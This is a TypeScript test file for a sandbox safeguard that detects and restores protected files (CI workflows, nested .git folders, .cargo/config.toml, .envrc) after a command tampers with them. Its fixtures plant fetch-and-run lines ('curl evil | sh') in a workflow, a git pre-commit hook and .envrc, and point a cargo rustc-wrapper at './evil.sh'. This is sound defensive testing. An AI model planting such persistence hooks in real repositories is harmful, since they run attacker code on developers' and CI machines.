/**
 * The check after a sandboxed command, on real files, as if a command had got past the pins (the
 * folders above protected paths bound onto themselves; protectedRenames.test.ts shows they hold):
 * what stands at a protected path is compared by contents and identity, not by name. A protected
 * file or folder made again under its old name is replaced by its original — moved back when the
 * command moved it within the workspace, written back from its bytes otherwise — and an original the
 * command moved is never deleted as if it were a new protected file.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { restoreProtected, snapshotProtected } from '../../../src/host/node/sandbox/protectedSnapshot';
import { findSandboxMounts, protectedNamesNow } from '../../../src/host/node/sandbox/sandboxMounts';
import { treeFingerprint } from '../security/securityKit';

describe('sandbox: the check after a command compares protected paths by contents and puts them back', () => {
  let ws: string;
  beforeEach(() => {
    ws = fs.realpathSync(fs.mkdtempSync(path.join('/var/tmp', 'tandem-after-')));
  });
  afterEach(() => fs.rmSync(ws, { recursive: true, force: true }));

  /** Snapshot, run `sh -c script` in the workspace (no sandbox: as if it had got past it), then the check. */
  function commandThenCheck(script: string): string[] {
    const before = snapshotProtected(findSandboxMounts([ws]).protectedNames);
    execFileSync('sh', ['-c', script], { cwd: ws });
    return restoreProtected([ws], before, protectedNamesNow([ws]));
  }
  const put = (rel: string, body: string, mode = 0o644) => {
    fs.mkdirSync(path.dirname(path.join(ws, rel)), { recursive: true });
    fs.writeFileSync(path.join(ws, rel), body, { mode });
  };

  it('.github/workflows made again in a new .github: the original folder is moved back, the new one is gone', () => {
    put('.github/workflows/ci.yml', 'on: push\n');
    const workflows = treeFingerprint(path.join(ws, '.github'));
    const notes = commandThenCheck("mv .github .gh-old && mkdir -p .github/workflows && echo 'run: curl evil | sh' > .github/workflows/ci.yml");
    assert.deepEqual(treeFingerprint(path.join(ws, '.github')), workflows);
    assert.match(notes.join('\n'), /put back \.github\/workflows, which the command replaced/);
  });

  it('a nested repository moved aside and copied with a hook: the original .git goes back to its place and is not deleted', () => {
    fs.mkdirSync(path.join(ws, 'vendor', 'lib'), { recursive: true });
    execFileSync('git', ['init', '-q', path.join(ws, 'vendor', 'lib')]);
    const repo = treeFingerprint(path.join(ws, 'vendor', 'lib', '.git'));
    const notes = commandThenCheck("mv vendor/lib vendor/lib-old && cp -r vendor/lib-old vendor/lib && printf '#!/bin/sh\\ncurl evil | sh\\n' > vendor/lib/.git/hooks/pre-commit");
    assert.deepEqual(treeFingerprint(path.join(ws, 'vendor', 'lib', '.git')), repo, 'the original repository, hook-free');
    assert.match(notes.join('\n'), /put back vendor\/lib\/\.git/);
    assert.doesNotMatch(notes.join('\n'), /removed vendor\/lib-old\/\.git/);
  });

  it('.cargo/config.toml removed and written anew: its bytes and mode are written back; an identical one made again is left alone', () => {
    put('.cargo/config.toml', '[build]\njobs = 2\n', 0o600);
    const notes = commandThenCheck(`rm .cargo/config.toml && printf '[build]\\nrustc-wrapper = "./evil.sh"\\n' > .cargo/config.toml`);
    assert.equal(fs.readFileSync(path.join(ws, '.cargo', 'config.toml'), 'utf8'), '[build]\njobs = 2\n');
    assert.equal(fs.statSync(path.join(ws, '.cargo', 'config.toml')).mode & 0o777, 0o600);
    assert.match(notes.join('\n'), /put back \.cargo\/config\.toml/);
    assert.deepEqual(commandThenCheck("cp .cargo/config.toml x && rm .cargo/config.toml && mv x .cargo/config.toml"), [], 'same bytes: nothing to put back');
  });

  it('a protected file created by the command is removed, as before', () => {
    const notes = commandThenCheck("echo 'curl evil | sh' > .envrc");
    assert.ok(!fs.existsSync(path.join(ws, '.envrc')));
    assert.match(notes.join('\n'), /removed \.envrc, which the command created/);
  });
});
